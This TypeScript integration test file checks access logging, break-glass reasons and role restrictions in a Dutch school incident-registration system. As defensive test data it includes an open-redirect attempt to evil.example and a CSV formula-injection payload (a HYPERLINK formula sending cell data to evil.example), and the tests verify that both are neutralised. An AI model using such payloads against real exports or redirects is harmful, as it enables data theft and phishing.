// The access log over real HTTP: reads of incidents and dossiers are logged and found by
// the privacyfunctionaris (page, CSV, API); a confidential incident asks the directeur for a reason
// first (API: 403 without the X-Access-Reason header, page: a reason form, then 15 minutes for that record only); a
// leerkracht needs a reason for the dossier of a pupil outside their groups; other roles cannot see
// the log; the other stichting's reads never show up in Kompas' log.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { LogRow } from './support/access-log-row.ts'
import { Client } from './support/client.ts'
import { dutchToday } from './support/demo-dates.ts'
import { startServer, type RunningServer } from './support/server.ts'

const ACCOUNTS = [
  'directeur@branding.demo',
  'ib@branding.demo',
  'leerkracht@branding.demo',
  'vertrouwenspersoon@branding.demo',
  'privacy@kompas.demo',
  'bestuur@kompas.demo',
  'directeur@horizon.demo',
  'bestuur@horizon.demo',
] as const
type Email = (typeof ACCOUNTS)[number]

let server: RunningServer
const as = {} as Record<Email, Client>
const userId = {} as Record<Email, string>


async function log(query = ''): Promise<{ items: LogRow[]; total: number }> {
  const res = await as['privacy@kompas.demo'].get(`/api/v1/access-log?pageSize=200${query ? `&${query}` : ''}`)
  expect(res.status).toBe(200)
  return res.json()
}

let ordinary: { id: string; pupils: { studentId: string }[] }
let confidential: { id: string; pupils: { studentId: string }[] }[] = []

beforeAll(async () => {
  server = await startServer()
  for (const email of ACCOUNTS) {
    const c = new Client(server.baseUrl)
    await c.login(email)
    as[email] = c
    userId[email] = (await c.get('/api/v1/me')).json().user.id
  }
  // Listing is not logged per row; the vertrouwenspersoon's list shows the confidential cases.
  const ibList = (await as['ib@branding.demo'].get('/api/v1/incidents?status=submitted&pageSize=50')).json()
  ordinary = ibList.items.find((i: { pupils: unknown[]; confidential: boolean }) => !i.confidential && i.pupils.length >= 2)
  const vpList = (await as['vertrouwenspersoon@branding.demo'].get('/api/v1/incidents?status=submitted&pageSize=200')).json()
  // Confidential cases the directeur did not report himself (his own report needs no reason).
  confidential = vpList.items.filter((i: { confidential: boolean; reportedById: string }) => i.confidential && i.reportedById !== userId['directeur@branding.demo'])
  // The demo seed already holds a break-glass opening (demo-access-log.ts): use cases nobody opened.
  const opened = new Set((await log('breakGlass=1')).items.map((r) => r.subjectId))
  confidential = confidential.filter((i) => !opened.has(i.id))
  expect(ordinary).toBeTruthy()
  expect(confidential.length).toBeGreaterThanOrEqual(3)
}, 180_000)
afterAll(() => server?.stop())

describe('reads are logged', () => {
  it('listing incidents writes no row per incident', async () => {
    const before = (await log(`person=${encodeURIComponent('Sanne Kuipers')}`)).total
    await as['ib@branding.demo'].get('/api/v1/incidents?pageSize=50')
    expect((await log(`person=${encodeURIComponent('Sanne Kuipers')}`)).total).toBe(before)
  })

  it('opening an incident (API and page) writes one row naming every pupil involved, visible to privacy@kompas.demo', async () => {
    expect((await as['ib@branding.demo'].get(`/api/v1/incidents/${ordinary.id}`)).status).toBe(200)
    const rows = (await log(`subjectType=incident&role=intern_begeleider`)).items.filter((r) => r.subjectId === ordinary.id && r.userId === userId['ib@branding.demo'])
    const pupils = [...new Set(ordinary.pupils.map((p) => p.studentId))].sort()
    expect(rows[0]).toMatchObject({ action: 'read', breakGlass: false, role: 'intern_begeleider', userName: 'Sanne Kuipers', studentIds: pupils })

    const page = await as['ib@branding.demo'].get(`/incidenten/${ordinary.id}`)
    expect(page.status).toBe(200)
    const after = (await log(`subjectType=incident&role=intern_begeleider`)).items.filter((r) => r.subjectId === ordinary.id)
    expect(after.length).toBe(rows.length + 1)
  })

  it('the server’s sealer gives every logged read its place in the chain within seconds', async () => {
    expect((await as['directeur@branding.demo'].get(`/api/v1/incidents/${ordinary.id}`)).status).toBe(200)
    const mine = async () => (await log(`subjectType=incident&role=directeur`)).items.filter((r) => r.subjectId === ordinary.id && r.userId === userId['directeur@branding.demo'])
    const newest = Math.max(...(await mine()).map((r) => r.id))
    // Wait for the state (sealed), not for a time: the sealer runs every 2 s by default, and chains
    // only below the oldest transaction on the server (on a shared test server, other suites' too).
    const deadline = Date.now() + 45_000
    let sealed: LogRow[] = []
    while (Date.now() < deadline) {
      sealed = (await mine()).filter((r) => r.id === newest && r.seq !== null)
      if (sealed.length) break
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    expect(sealed).toHaveLength(1)
    expect(sealed[0]!.seq).toBeGreaterThan(0)
  }, 60_000)

  it('the pupil view, the edit form and the pupil page are logged too', async () => {
    const pupil = ordinary.pupils[0]!.studentId
    const dir = as['directeur@branding.demo']
    // The rows these reads add: ids run on (the seed's rows can carry a later time than the
    // server's clock when the two processes' clocks were moved apart, so not the newest by time).
    const lastId = Math.max(0, ...(await log('role=directeur')).items.map((r) => r.id))
    expect((await dir.get(`/incidenten/${ordinary.id}/leerling/${pupil}`)).status).toBe(200)
    expect((await dir.get(`/api/v1/incidents/${ordinary.id}/participants/${pupil}`)).status).toBe(200)
    expect((await dir.get(`/incidenten/${ordinary.id}/bewerken`)).status).toBe(200)
    expect((await dir.get(`/leerlingen/${pupil}`)).status).toBe(200)
    expect((await dir.get(`/api/v1/students/${pupil}`)).status).toBe(200)
    expect((await dir.get(`/api/v1/students/${pupil}/dossier`)).status).toBe(200)
    const rows = (await log('role=directeur')).items.filter((r) => r.id > lastId)
    // One row each for the two per-pupil views and the edit form (which names every pupil), three for the pupil.
    expect(rows.filter((r) => r.subjectType === 'student' && r.subjectId === pupil && r.studentId === pupil).length).toBe(3)
    const incidentRows = rows.filter((r) => r.subjectType === 'incident' && r.subjectId === ordinary.id)
    expect(incidentRows.length).toBe(3)
    expect(incidentRows.every((r) => r.studentIds.includes(pupil))).toBe(true)
    expect(rows.every((r) => r.userId === userId['directeur@branding.demo'] && !r.breakGlass)).toBe(true)
  })
})

describe('break-glass', () => {
  it('API: a confidential incident answers the directeur 403 without a reason, and logs the reason when given', async () => {
    const c = confidential[0]!
    const dir = as['directeur@branding.demo']
    const refused = await dir.get(`/api/v1/incidents/${c.id}`)
    expect(refused.status).toBe(403)
    expect(refused.json()).toEqual({ errors: [{ path: 'reason', message: expect.stringMatching(/reden/i) }] })
    expect((await log(`breakGlass=1&person=${encodeURIComponent('Henk Mulder')}`)).items.some((r) => r.subjectId === c.id)).toBe(false)
    const withReason = (reason: string) => ({ headers: { 'X-Access-Reason': encodeURIComponent(reason) } })
    expect((await dir.request('GET', `/api/v1/incidents/${c.id}`, withReason('kort'))).status).toBe(403)

    const reason = 'Melding van de ouders, gesprek morgen voorbereiden'
    const opened = await dir.request('GET', `/api/v1/incidents/${c.id}`, withReason(reason))
    expect(opened.status).toBe(200)
    expect(opened.json()).toMatchObject({ id: c.id, confidential: true })
    const rows = (await log('breakGlass=1')).items.filter((r) => r.subjectId === c.id && r.userId === userId['directeur@branding.demo'])
    expect(rows.some((r) => r.action === 'break_glass' && r.reason === reason)).toBe(true)
    expect(rows.some((r) => r.action === 'read' && r.reason === reason)).toBe(true)
    // The parents' PDF of the same confidential incident asks for a reason too, and is logged as an export.
    const pupil = c.pupils[0]!.studentId
    const pdfRefused = await dir.get(`/api/v1/incidents/${c.id}/parent-report.pdf?studentId=${pupil}`)
    expect(pdfRefused.status).toBe(403)
    expect(pdfRefused.json().errors[0].path).toBe('reason')
    const pdf = await dir.request('GET', `/api/v1/incidents/${c.id}/parent-report.pdf?studentId=${pupil}`, withReason('Brief voor de ouders klaarmaken'))
    expect(pdf.status).toBe(200)
    expect(pdf.headers.get('content-type')).toBe('application/pdf')
    const exported = (await log(`studentId=${pupil}&role=directeur`)).items.filter((r) => r.subjectId === c.id && r.action === 'export')
    expect(exported).toHaveLength(1)
    expect(exported[0]).toMatchObject({ breakGlass: true, reason: 'Brief voor de ouders klaarmaken' })
    // Each API request carries its own reason.
    const again = await dir.request('GET', `/api/v1/incidents/${c.id}`, withReason('Zorgoverleg met de vertrouwenspersoon'))
    expect(again.status).toBe(200)
  })

  it('the vertrouwenspersoon opens confidential cases without a reason, logged as ordinary reads', async () => {
    const c = confidential[0]!
    expect((await as['vertrouwenspersoon@branding.demo'].get(`/api/v1/incidents/${c.id}`)).status).toBe(200)
    const rows = (await log('role=vertrouwenspersoon&subjectType=incident')).items.filter((r) => r.subjectId === c.id)
    expect(rows.length).toBeGreaterThan(0)
    expect(rows.every((r) => !r.breakGlass && r.action === 'read')).toBe(true)
  })

  it('page: the directeur first gets a reason form (no content), then the incident, and only that one', async () => {
    const [c, other] = [confidential[1]!, confidential[2]!]
    const dir = as['directeur@branding.demo']
    const full = (await as['vertrouwenspersoon@branding.demo'].get(`/api/v1/incidents/${c.id}`)).json()
    const form = await dir.get(`/incidenten/${c.id}`)
    expect(form.status).toBe(200)
    expect(form.text).toContain('Reden opgeven')
    expect(form.text).toContain('action="/toegang/reden"')
    expect(form.text).not.toContain(full.situation)
    // The edit form and the per-pupil view of the same incident ask too.
    expect((await dir.get(`/incidenten/${c.id}/bewerken`)).text).toContain('Reden opgeven')

    const empty = await dir.post('/toegang/reden', { subjectType: 'incident', subjectId: c.id, returnTo: `/incidenten/${c.id}`, reason: '' })
    expect(empty.status).toBe(400)
    expect(empty.text).toContain('Geef een reden op')
    expect((await dir.get(`/incidenten/${c.id}`)).text).not.toContain(full.situation)

    const given = await dir.post('/toegang/reden', {
      subjectType: 'incident',
      subjectId: c.id,
      returnTo: `/incidenten/${c.id}/bewerken`,
      reason: 'Ouders vragen om inzage; gesprek voorbereiden',
    })
    expect(given.status).toBe(302)
    expect(given.location).toBe(`/incidenten/${c.id}/bewerken`)
    const opened = await dir.get(`/incidenten/${c.id}`)
    expect(opened.status).toBe(200)
    expect(opened.text).toContain(full.situation)
    // One reason opens no other record.
    expect((await dir.get(`/incidenten/${other.id}`)).text).toContain('Reden opgeven')
    const rows = (await log('breakGlass=1')).items.filter((r) => r.subjectId === c.id && r.reason === 'Ouders vragen om inzage; gesprek voorbereiden')
    expect(rows.filter((r) => r.action === 'break_glass').length).toBeGreaterThan(0)
    expect(rows.filter((r) => r.action === 'read').length).toBeGreaterThan(0)
  })

  it('the reason route never sends anyone elsewhere, and another user’s reason opens nothing', async () => {
    const c = confidential[2]!
    const res = await as['directeur@branding.demo'].post('/toegang/reden', {
      subjectType: 'incident',
      subjectId: c.id,
      returnTo: 'https://evil.example/',
      reason: 'Controle voor het zorgoverleg',
    })
    expect(res.location).toBe(`/incidenten/${c.id}`)
    // The IB cannot open a confidential incident at all, reason or not: 404.
    const ib = await as['ib@branding.demo'].post('/toegang/reden', { subjectType: 'incident', subjectId: c.id, reason: 'Ik wil het toch zien' })
    expect(ib.status).toBe(404)
    // And another stichting's directeur gets 404 for a Kompas incident.
    const foreign = await as['directeur@horizon.demo'].request('GET', `/api/v1/incidents/${c.id}`, { headers: { 'X-Access-Reason': encodeURIComponent('Zomaar even kijken') } })
    expect(foreign.status).toBe(404)
  })

  it('a leerkracht needs a reason for the dossier of a pupil outside the groups she teaches', async () => {
    const teacher = as['leerkracht@branding.demo']
    const pupils = (await teacher.get('/api/v1/students?pageSize=200')).json().items as { id: string; groupName: string | null }[]
    const own = pupils.find((p) => p.groupName === 'groep 6')!
    const other = pupils.find((p) => p.groupName !== 'groep 6')!
    expect((await teacher.get(`/api/v1/students/${own.id}/dossier`)).status).toBe(200)
    expect((await teacher.get(`/leerlingen/${own.id}`)).text).not.toContain('Reden opgeven')
    const refused = await teacher.get(`/api/v1/students/${other.id}/dossier`)
    expect(refused.status).toBe(403)
    expect(refused.json().errors[0].path).toBe('reason')
    // The basic pupil record (to register an incident) needs no reason; it is logged.
    expect((await teacher.get(`/api/v1/students/${other.id}`)).status).toBe(200)
    const page = await teacher.get(`/leerlingen/${other.id}`)
    expect(page.text).toContain('Reden opgeven')
    expect(page.text).toContain('niet in een groep')
    const given = await teacher.post('/toegang/reden', { subjectType: 'student', subjectId: other.id, returnTo: `/leerlingen/${other.id}`, reason: 'Invalbeurt in die groep deze week' })
    expect(given.location).toBe(`/leerlingen/${other.id}`)
    expect((await teacher.get(`/leerlingen/${other.id}`)).text).not.toContain('Reden opgeven')
    const rows = (await log(`studentId=${other.id}&role=leerkracht`)).items
    expect(rows.some((r) => r.action === 'break_glass' && r.reason === 'Invalbeurt in die groep deze week')).toBe(true)
    expect(rows.some((r) => r.action === 'read' && r.subjectType === 'student' && !r.breakGlass)).toBe(true)
  })
})

describe('the privacyfunctionaris’ log', () => {
  it('the page searches, pages and marks break-glass rows', async () => {
    const fg = as['privacy@kompas.demo']
    const page = await fg.get('/toegangslog?breakGlass=1')
    expect(page.status).toBe(200)
    expect(page.text).toContain('Toegangslog')
    expect(page.text).toContain('class="break-glass"')
    expect(page.text).toContain('Henk Mulder')
    const paged = await fg.get('/toegangslog?pageSize=2&page=2')
    expect(paged.status).toBe(200)
    expect(paged.text.replaceAll('<!-- -->', '')).toMatch(/pagina 2 van \d+/i)
    const bad = await fg.get('/toegangslog?from=gisteren')
    expect(bad.status).toBe(400)
    expect(bad.text).toContain('Gebruik een datum als 2026-11-21')
  })

  it('the CSV export holds the search and is itself logged', async () => {
    const fg = as['privacy@kompas.demo']
    const res = await fg.get('/toegangslog.csv?breakGlass=1')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toContain('text/csv')
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="toegangslog-\d{4}-\d{2}-\d{2}\.csv"/)
    const lines = res.text.replace(/^\uFEFF/, '').trim().split('\r\n')
    expect(lines[0]).toMatch(/^Tijdstip;Naam;Rol;/)
    expect(lines.length).toBeGreaterThan(2)
    expect(lines.slice(1).every((l) => l.includes(';ja;'))).toBe(true)
    const exports = (await log('subjectType=access_log')).items
    expect(exports[0]).toMatchObject({ action: 'export', userId: userId['privacy@kompas.demo'], reason: 'Export toegangslog: alleen break-glass' })
  })

  it('the CSV exports a reason that looks like a formula as text (a leading quote), never as a formula', async () => {
    const dir = as['directeur@branding.demo']
    // Any confidential one the directeur sees (how many incidents come before it depends on the day the demo was seeded).
    const confidential = ((await dir.get('/api/v1/incidents?status=submitted&pageSize=200')).json().items as { id: string; confidential: boolean }[]).find((i) => i.confidential)
    expect(confidential, 'a confidential demo incident').toBeDefined()
    const reason = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    const opened = await dir.request('GET', `/api/v1/incidents/${confidential!.id}`, { headers: { 'x-access-reason': reason } })
    expect(opened.status).toBe(200)
    const csv = (await as['privacy@kompas.demo'].get('/toegangslog.csv?breakGlass=1')).text
    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))
    expect(line).toBeDefined()
    // RFC 4180 quoting (the reason holds quotes) around the neutralised value: "'=HYPERLINK(""…
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`)
    for (const field of line!.split(';')) expect(field).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('the API filters by date, role and person, and refuses bad filters with structured errors', async () => {
    // The Dutch calendar day the reads above were logged on (not the UTC one, which lags after midnight).
    const today = dutchToday()
    const all = await log(`from=${today}&to=${today}&role=directeur&person=mulder`)
    expect(all.total).toBeGreaterThan(0)
    expect(all.items.every((r) => r.role === 'directeur' && r.userName === 'Henk Mulder')).toBe(true)
    expect((await log('from=2000-01-01&to=2000-01-02')).total).toBe(0)
    const bad = await as['privacy@kompas.demo'].get('/api/v1/access-log?role=koning&pageSize=1000')
    expect(bad.status).toBe(400)
    expect(bad.json().errors.map((e: { path: string }) => e.path).sort()).toEqual(['pageSize', 'role'])
  })

  it.each(['directeur@branding.demo', 'ib@branding.demo', 'bestuur@kompas.demo', 'vertrouwenspersoon@branding.demo', 'bestuur@horizon.demo'] as const)(
    '%s gets 403 on the page, the CSV and the API',
    async (email) => {
      expect((await as[email].get('/toegangslog')).status).toBe(403)
      expect((await as[email].get('/toegangslog.csv')).status).toBe(403)
      const api = await as[email].get('/api/v1/access-log')
      expect(api.status).toBe(403)
      expect(api.json().errors[0]).toMatchObject({ path: expect.any(String), message: expect.any(String) })
    },
  )

  it('reads at Stichting Horizon never appear in Kompas’ log', async () => {
    const dir = as['directeur@horizon.demo']
    const incidents = (await dir.get('/api/v1/incidents?status=submitted&pageSize=50')).json().items as { id: string; confidential: boolean }[]
    const open = incidents.find((i) => !i.confidential)!
    expect((await dir.get(`/api/v1/incidents/${open.id}`)).status).toBe(200)
    expect((await dir.get(`/incidenten/${open.id}`)).status).toBe(200)
    const pupil = (await dir.get('/api/v1/students?pageSize=1')).json().items[0].id
    expect((await dir.get(`/api/v1/students/${pupil}/dossier`)).status).toBe(200)
    expect((await dir.get(`/leerlingen/${pupil}`)).status).toBe(200)
    await as['bestuur@horizon.demo'].get('/bestuur')
    await as['bestuur@horizon.demo'].get('/api/v1/measures')
    for (const person of ['Gerda Visser', 'Johan Meijer']) expect((await log(`person=${encodeURIComponent(person)}`)).total).toBe(0)
    const everything = await log()
    let all = everything.items
    for (let page = 2; (page - 1) * 200 < everything.total; page++) all = all.concat((await log(`page=${page}`)).items)
    expect(all.length).toBe(everything.total)
    expect(all.some((r) => r.userId === userId['directeur@horizon.demo'] || r.userId === userId['bestuur@horizon.demo'])).toBe(false)
  })
})
